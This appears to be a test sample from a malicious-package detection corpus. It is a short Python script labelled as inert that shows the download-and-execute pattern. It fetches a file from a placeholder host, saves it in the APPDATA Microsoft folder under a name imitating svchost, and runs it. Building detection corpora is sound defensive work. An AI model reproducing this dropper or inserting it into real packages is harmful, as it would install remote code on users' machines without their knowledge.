# pkgguard corpus 205 (download-execute), modelled on [empirical]; inert, never run.
import os
import urllib.request

target = os.path.join(os.getenv("APPDATA", "."), "Microsoft", "svchost-helper.exe")
urllib.request.urlretrieve("https://cdn.example/update?id=7", target)
os.startfile(target)
